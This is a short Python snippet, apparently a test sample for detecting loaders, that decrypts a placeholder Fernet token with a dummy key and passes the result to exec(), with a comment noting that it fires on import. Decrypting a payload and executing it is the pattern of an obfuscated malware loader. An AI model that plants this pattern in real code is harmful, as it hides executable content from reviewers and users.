from cryptography.fernet import Fernet
box = Fernet(b"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=")
exec(box.decrypt(b"gAAAAABexample-not-a-real-token"))  # fires: import
